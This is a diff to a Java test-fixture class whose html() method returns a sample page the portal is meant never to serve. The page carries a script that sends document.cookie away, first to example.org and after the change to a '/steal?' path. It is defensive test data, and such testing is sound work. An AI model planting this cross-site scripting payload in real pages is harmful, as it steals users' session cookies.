@@ -65,7 +65,7 @@ public final class SampleFiles {
 
     /** A web page with a script: what a file must never be served as by the portal. */
     public static byte[] html() {
-        return "<!DOCTYPE html>\n<html><body><script>document.location='https://example.org/'+document.cookie</script></body></html>\n"
+        return "<!DOCTYPE html>\n<html><body><script>document.location='/steal?'+document.cookie</script></body></html>\n"
                 .getBytes(StandardCharsets.UTF_8);
     }
 
